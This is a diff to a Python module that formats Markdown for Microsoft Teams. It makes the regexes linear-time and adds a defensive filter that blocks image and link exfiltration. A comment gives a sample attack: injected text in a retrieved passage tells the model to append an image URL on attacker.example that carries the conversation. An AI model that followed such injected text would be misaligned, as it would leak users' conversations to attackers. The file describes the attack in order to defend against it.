@@ -11,20 +11,24 @@ wider than the pane scrolls, which is better than code that is wrong.
 from __future__ import annotations
 
 import re
+from collections.abc import Iterable
+from urllib.parse import quote, urlsplit
 
 # The Markdown is stripped with a few regular expressions rather than a parser: excerpts are short snippets
 # whose Markdown is often broken (cut mid-emphasis), which a parser would keep as literal asterisks.
 _FENCE_MARK = re.compile(r"(?:```|~~~)[\w+#.-]*(?=\s|$)")  # with its language tag, wherever a cut left it
 _LINE_MARKUP = re.compile(r"^[ \t]*(?:#{1,6}[ \t]+|>[ \t]?|[-*+•][ \t]+|\d{1,3}[.)][ \t]+)+", re.M)
-_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
-_LINK = re.compile(r"\[([^\]]+)\]\([^)]*\)")
+# `[^\][]` and `[^()]` stop at the next bracket: `[^\]]*` ran on to the end of the text from every `[` of a
+# text without `]`, which was quadratic.
+_IMAGE = re.compile(r"!\[([^\][]*)\]\([^()]*\)")
+_LINK = re.compile(r"\[([^\][]+)\]\([^()]*\)")
 _STRONG = re.compile(r"\*{2,}|_{2,}(?=\S|$)|(?<=\S)_{2,}")
 _EMPHASIS = re.compile(r"(?<![\w*])\*(?=\S)|(?<=\S)\*(?![\w*])|(?<![\w])_(?=\S)|(?<=\S)_(?!\w)")
 _CODE_TICKS = re.compile(r"`+")
 _SPACES = re.compile(r"\s+")
 _SENTENCE_END = re.compile(r"(?<!\be\.g)(?<!\bi\.e)(?<!\betc)(?<!\bvs)(?<!\bcf)[.!?…](?=\s)")  # not "e.g. "
 
-_FENCE = re.compile(r"^([ \t]*)(```|~~~)([^\n]*)\n(.*?)^[ \t]*\2[ \t]*$", re.S | re.M)
+_FENCE_OPEN = re.compile(r"[ \t]*(```|~~~)")
 _BULLET = re.compile(r"^([ \t]*)[-*+][ \t]+(?=\S)", re.M)
 _NUMBERED = re.compile(r"^([ \t]*)(\d{1,3})[.)][ \t]+(?=\S)", re.M)
 _PLACEHOLDER = re.compile(r"<([A-Za-z][\w-]*(?: [\w-]+)*)>")  # <column>, <label column>
@@ -48,8 +52,11 @@ def shorten(text: str, limit: int) -> str:
     half, else at a word boundary with "…"."""
     if len(text) <= limit:
         return text
-    ends = [m.end() for m in _SENTENCE_END.finditer(text, 0, limit)
-            if text.count("(", 0, m.end()) <= text.count(")", 0, m.end())]  # never inside parentheses
+    ends = [
+        m.end()
+        for m in _SENTENCE_END.finditer(text, 0, limit)
+        if text.count("(", 0, m.end()) <= text.count(")", 0, m.end())
+    ]  # never inside parentheses
     if ends and ends[-1] >= limit // 2:
         return text[: ends[-1]]
     cut = text[: limit - 1]
@@ -72,12 +79,52 @@ def safe_placeholders(text: str) -> str:
     )
 
 
+def fenced_blocks(text: str, *, indented: bool = True) -> list[tuple[int, int, int, int]]:
+    """Return the fenced code blocks of `text` as (start, end, code start, code end), left to right: a line
+    opening with ``` or ~~~ (after spaces when `indented`) up to the next line holding only the same fence.
+
+    One pass over the lines (a regex with a lazy body restarted at every unclosed fence was quadratic)."""
+    lines, position = [], 0
+    for line in text.split("\n"):
+        lines.append((position, line + "\n"))
+        position += len(line) + 1
+    lines[-1] = (lines[-1][0], lines[-1][1][:-1])  # the last line has no line end
+    closing: list[str | None] = []  # the fence a line closes, if it holds only a fence
+    for _, line in lines:
+        bare = line.rstrip("\n").rstrip(" \t")
+        bare = bare.lstrip(" \t") if indented else bare
+        closing.append(bare if bare in ("```", "~~~") else None)
+    next_close: dict[str, list[int | None]] = {}
+    for fence in ("```", "~~~"):
+        found: int | None = None
+        after: list[int | None] = [None] * (len(lines) + 1)
+        for i in range(len(lines) - 1, -1, -1):
+            after[i + 1] = found
+            if closing[i] == fence:
+                found = i
+        after[0] = found
+        next_close[fence] = after
+    blocks, i = [], 0
+    while i < len(lines):
+        start, line = lines[i]
+        opened = _FENCE_OPEN.match(line) if indented else None
+        fence = opened.group(1) if opened else line[:3] if line[:3] in ("```", "~~~") else None
+        close = next_close[fence][i + 1] if fence and line.endswith("\n") else None
+        if close is None:
+            i += 1
+            continue
+        close_start, close_line = lines[close]
+        blocks.append((start, close_start + len(close_line.rstrip("\n")), start + len(line), close_start))
+        i = close + 1
+    return blocks
+
+
 def _outside_code(text: str, change) -> str:
     """Return `text` with `change` applied to the parts outside fenced code blocks."""
     parts, position = [], 0
-    for match in _FENCE.finditer(text):
-        parts += [change(text[position : match.start()]), match.group(0)]
-        position = match.end()
+    for start, end, _, _ in fenced_blocks(text):
+        parts += [change(text[position:start]), text[start:end]]
+        position = end
     return "".join([*parts, change(text[position:])])
 
 
@@ -89,7 +136,90 @@ def _flat_lists(text: str) -> str:
     return re.sub(r"(?<!\n)\n(?=[ \t]*(?:• |\*\*\d{1,3}\.\*\* ))", "\n\n", text)
 
 
+# Exfiltration through what Teams renders: a retrieved passage can tell the model to append
+# `![s](https://attacker.example/p.png?d=<the conversation>)`, which Teams fetches as soon as it shows it, or a
+# disguised link. Images in model or source text are dropped unless their host is allowed
+# (CONTENT_ALLOWED_HOSTS, empty by default); links to other hosts become their text followed by the URL, in
+# plain sight; HTML <img> and <a> tags are shown as text. Set once at start-up by the worker (set_content_hosts).
+_content_hosts: tuple[frozenset[str], tuple[str, ...]] = (frozenset(), ())
+# Possessive `*+`/`++`: `\s*` before the URL and `\s+` after it could otherwise split one run of spaces in every
+# way, which made `[x](` followed by 40,000 spaces cost 9 s.
+_MD_IMAGE = re.compile(r"!\[([^\][]*)\]\(\s*+<?([^()\s<>]*+)>?(?:\s++\"[^\"<>()]*+\")?\s*+\)")
+_MD_LINK = re.compile(r"\[([^\][]*)\]\(\s*+<?([^()\s<>]*+)>?(?:\s++\"[^\"<>()]*+\")?\s*+\)")
+_MD_REFERENCE = re.compile(
+    r"^[ \t]{0,3}\[[^\][]+\]:[ \t]*<?([A-Za-z][\w+.-]*:[^\s<>]*)>?(?:[ \t].*)?$", re.M
+)  # [ref]: url "title"
+_HTML_MEDIA = re.compile(r"<(?=(?:img|a|image|picture|source|video|audio|iframe|object|embed|svg|link)\b)", re.I)
+_URL_SAFE = "/:?#&=+,;@~*$%'-._"  # everything else, ( ) [ ] < > ! " ` and spaces included, is percent-encoded
+
+
+def set_content_hosts(hosts: Iterable[str]) -> None:
+    """Set the hosts whose images model and source text may show and whose links stay links: exact names or
+    `*.` wildcards (CONTENT_ALLOWED_HOSTS). Returns None."""
+    entries = [h.strip().lower() for h in hosts if h.strip()]
+    global _content_hosts
+    _content_hosts = (
+        frozenset(h for h in entries if not h.startswith("*.")),
+        tuple(h[1:] for h in entries if h.startswith("*.")),
+    )
+
+
+def host_allowed(url: str) -> bool:
+    """Return True when `url` is http(s) to a host in CONTENT_ALLOWED_HOSTS (never for other schemes)."""
+    try:
+        parts = urlsplit(url.strip())
+        host = (parts.hostname or "").lower()
+    except ValueError:
+        return False
+    exact, suffixes = _content_hosts
+    if parts.scheme not in ("http", "https") or not host or parts.username or parts.password:
+        return False
+    return host in exact or any(host.endswith(s) and len(host) > len(s) for s in suffixes)
+
+
+def safe_url(url: str) -> str:
+    """Return `url` percent-encoded so that it cannot end a Markdown link or start another (`)![x](…)`), or ''
+    when it is not an http(s) URL with a host."""
+    url = url.strip()
+    try:
+        parts = urlsplit(url)
+    except ValueError:
+        return ""
+    if parts.scheme.lower() not in ("http", "https") or not parts.hostname or len(url) > 2048:
+        return ""
+    return quote(url, safe=_URL_SAFE)
+
+
+def escape_link_text(text: str) -> str:
+    """Return `text` safe inside `[...]` of a Markdown link: brackets and backslashes escaped, on one line."""
+    return re.sub(r"([\\\[\]])", r"\\\1", " ".join(text.split()))
+
+
+def no_exfiltration(markdown: str) -> str:
+    """Return `markdown` without images from hosts not allowed, with links to hosts not allowed written as
+    `text (URL)` and with HTML image and link tags shown as text. Linear in the text's length."""
+
+    def image(match: re.Match[str]) -> str:
+        return match.group(0) if host_allowed(match.group(2)) else ""
+
+    def link(match: re.Match[str]) -> str:
+        text, url = match.group(1), match.group(2)
+        if host_allowed(url):
+            return match.group(0)
+        shown = url.replace("`", "%60")
+        return f"{text} (`{shown}`)" if text.strip() and text.strip() != url else f"`{shown}`"
+
+    def reference(match: re.Match[str]) -> str:
+        return match.group(0) if host_allowed(match.group(1)) else f"`{match.group(0).strip()}`"
+
+    text = _MD_IMAGE.sub(image, markdown)
+    text = _MD_LINK.sub(link, text)
+    text = _MD_REFERENCE.sub(reference, text)
+    return _HTML_MEDIA.sub("&lt;", text)
+
+
 def teams_message_text(markdown: str) -> str:
     """Return Markdown for a Teams message: list items as bulleted paragraphs (so every [n] marker is an
-    interactive citation) and `<word>` placeholders made safe, outside code blocks; code as written."""
-    return _outside_code(markdown, lambda part: safe_placeholders(_flat_lists(part)))
+    interactive citation), `<word>` placeholders made safe and nothing that exfiltrates (`no_exfiltration`),
+    outside code blocks; code as written."""
+    return _outside_code(markdown, lambda part: safe_placeholders(_flat_lists(no_exfiltration(part))))
